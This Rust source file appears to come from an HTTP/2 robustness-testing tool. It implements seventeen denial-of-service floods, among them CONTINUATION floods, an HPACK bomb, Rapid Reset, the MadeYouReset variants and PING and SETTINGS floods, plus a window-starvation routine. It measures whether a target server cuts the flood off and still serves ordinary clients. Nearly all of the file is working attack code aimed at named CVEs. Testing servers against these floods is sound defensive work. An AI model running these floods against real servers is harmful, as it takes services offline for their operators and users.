//! Floods over HTTP/2: cheap for the sender, dear for a receiver that does not count.

use crate::h2_raw::{H2, Heard, kind, request, setting};
use crate::hpack::Block;
use crate::wire::Target;
use std::io;
use std::time::{Duration, Instant};

/// What a flood did.
#[derive(Clone, Debug)]
pub struct Verdict {
    /// Units of the flood that were sent before the peer put an end to it.
    pub sent: usize,
    /// Units that were to be sent.
    pub planned: usize,
    /// What the peer said.
    pub heard: Heard,
    /// How long the flood lasted.
    pub took: Duration,
    /// How long an ordinary client waited for its response afterwards; none when it got none.
    pub served: Option<Duration>,
}

impl Verdict {
    /// Whether the peer ended the connection before everything was sent.
    #[must_use]
    pub const fn was_stopped(&self) -> bool {
        self.heard.is_over()
    }
}

/// Which flood.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Flood {
    /// One block that never ends: HEADERS without END_HEADERS, then CONTINUATION for ever (RUSTSEC-2024-0332).
    Continuation,
    /// The same with empty CONTINUATION frames, which cost no bytes of any header limit.
    EmptyContinuation,
    /// DATA frames without data on an open stream (CVE-2019-9518).
    EmptyData,
    /// Trailers that are HEADERS without END_STREAM, again and again.
    EmptyHeaders,
    /// A large entry in the dynamic table, referred to again and again: few bytes, much text.
    HpackBomb,
    /// Streams that the peer has to reset because of a DATA frame after their end (CVE-2025-8671).
    MadeYouResetData,
    /// Streams that the peer has to reset because of a second HEADERS after their end.
    MadeYouResetHeaders,
    /// Streams that the peer has to reset because of a PRIORITY frame of a wrong length.
    MadeYouResetPriority,
    /// Streams that the peer has to reset because of a window that overflows.
    MadeYouResetWindow,
    /// Streams that the peer has to reset because of a window update of zero.
    MadeYouResetZero,
    /// PING (CVE-2019-9512).
    Ping,
    /// PRIORITY on streams that nobody opened (CVE-2019-9513).
    Priority,
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// SETTINGS (CVE-2019-9515).
    Settings,
    /// SETTINGS that change the window of all open streams.
    SettingsWindow,
    /// DATA frames of one byte on an open stream.
    TinyData,
    /// WINDOW_UPDATE by one on the connection.
    WindowUpdate,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 17] = [
        Self::Continuation,
        Self::EmptyContinuation,
        Self::EmptyData,
        Self::EmptyHeaders,
        Self::HpackBomb,
        Self::MadeYouResetData,
        Self::MadeYouResetHeaders,
        Self::MadeYouResetPriority,
        Self::MadeYouResetWindow,
        Self::MadeYouResetZero,
        Self::Ping,
        Self::Priority,
        Self::RapidReset,
        Self::Settings,
        Self::SettingsWindow,
        Self::TinyData,
        Self::WindowUpdate,
    ];

    /// Sends up to `units` of the flood over one connection, until the peer ends that or `within` has passed.
    ///
    /// # Errors
    /// The target cannot be connected to.
    pub fn run(self, target: &Target, units: usize, within: Duration) -> io::Result<Verdict> {
        let start = Instant::now();
        let mut client = H2::connect(target)?;
        self.begin(target, &mut client);
        let mut sent = 0;
        while sent < units && start.elapsed() < within {
            for unit in sent..units.min(sent + BATCH) {
                self.unit(target, &mut client, unit);
            }
            sent = units.min(sent + BATCH);
            if !client.pump() {
                break;
            }
        }
        // The peer's verdict on the last of them; a peer that puts up with all of it says nothing.
        client.listen(Duration::from_millis(500), Heard::is_over);
        let took = start.elapsed();
        Ok(Verdict {
            sent,
            planned: units,
            heard: client.heard,
            took,
            served: target.serves(),
        })
    }

    /// What has to stand before the units.
    fn begin(self, target: &Target, client: &mut H2) {
        let open = request(target, "POST", "/");
        match self {
            Self::Continuation | Self::EmptyContinuation => {
                client.frame(kind::HEADERS, 0, 1, &request(target, "GET", "/").0);
            }
            Self::EmptyData | Self::EmptyHeaders | Self::SettingsWindow | Self::TinyData => {
                client.headers(1, &open, false);
            }
            Self::HpackBomb => {
                let mut block = Block::default();
                block.indexed_literal(b"x-bomb", &vec![b'b'; 3_900]);
                block.0.extend_from_slice(&request(target, "GET", "/").0);
                // Pseudo-headers come first, so that the entry is made by a request that is refused, if only for that.
                client.headers(1, &block, true);
            }
            _ => {}
        }
    }

    fn unit(self, target: &Target, client: &mut H2, unit: usize) {
        let stream = u32::try_from(unit).map_or(1, |unit| unit.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff);
        let get = || request(target, "GET", "/");
        match self {
            Self::Continuation => {
                let block = Block::of(&[(format!("x-{unit}").as_bytes(), &[b'c'; 64])]);
                client.frame(kind::CONTINUATION, 0, 1, &block.0);
            }
            Self::EmptyContinuation => {
                client.frame(kind::CONTINUATION, 0, 1, &[]);
            }
            Self::EmptyData => {
                client.data(1, &[], false);
            }
            Self::EmptyHeaders => {
                client.headers(1, &Block::default(), false);
            }
            Self::HpackBomb => {
                let mut block = get();
                for _ in 0..2_000 {
                    block.reference(62);
                }
                client.headers(stream + 2, &block, true);
            }
            Self::MadeYouResetData => {
                client.headers(stream, &get(), true).data(stream, b"x", false);
            }
            Self::MadeYouResetHeaders => {
                client.headers(stream, &get(), true).headers(stream, &get(), true);
            }
            Self::MadeYouResetPriority => {
                client
                    .headers(stream, &get(), true)
                    .frame(kind::PRIORITY, 0, stream, &[0; 4]);
            }
            Self::MadeYouResetWindow => {
                client.headers(stream, &get(), true).window_update(stream, 0x7fff_ffff);
            }
            Self::MadeYouResetZero => {
                client.headers(stream, &get(), true).window_update(stream, 0);
            }
            Self::Ping => {
                client.frame(kind::PING, 0, 0, &[0; 8]);
            }
            Self::Priority => {
                client.frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
            }
            Self::RapidReset => {
                client.headers(stream, &get(), true).reset(stream);
            }
            Self::Settings => {
                client.settings(&[]);
            }
            Self::SettingsWindow => {
                let window = if unit.is_multiple_of(2) { 0 } else { 0x7fff_0000 };
                client.settings(&[(setting::INITIAL_WINDOW_SIZE, window)]);
            }
            Self::TinyData => {
                client.data(1, b"x", false);
            }
            Self::WindowUpdate => {
                client.window_update(0, 1);
            }
        }
    }
}

/// Asks for `streams` large responses and gives no window for them; tells what became of the connection within `within`.
///
/// # Errors
/// The target cannot be connected to.
pub fn starve(target: &Target, path: &str, streams: usize, within: Duration) -> io::Result<Verdict> {
    let start = Instant::now();
    let mut client = H2::connect_with(
        target,
        &[(setting::HEADER_TABLE_SIZE, 0), (setting::INITIAL_WINDOW_SIZE, 0)],
    )?;
    let mut sent = 0;
    for unit in 0..streams {
        let stream = u32::try_from(unit * 2 + 1).unwrap_or(1);
        client.headers(stream, &request(target, "GET", path), true);
        sent += 1;
    }
    client.pump();
    client.listen(within, Heard::is_over);
    let took = start.elapsed();
    Ok(Verdict {
        sent,
        planned: streams,
        heard: client.heard,
        took,
        served: target.serves(),
    })
}

/// Units between two looks at what the peer says.
const BATCH: usize = 50;
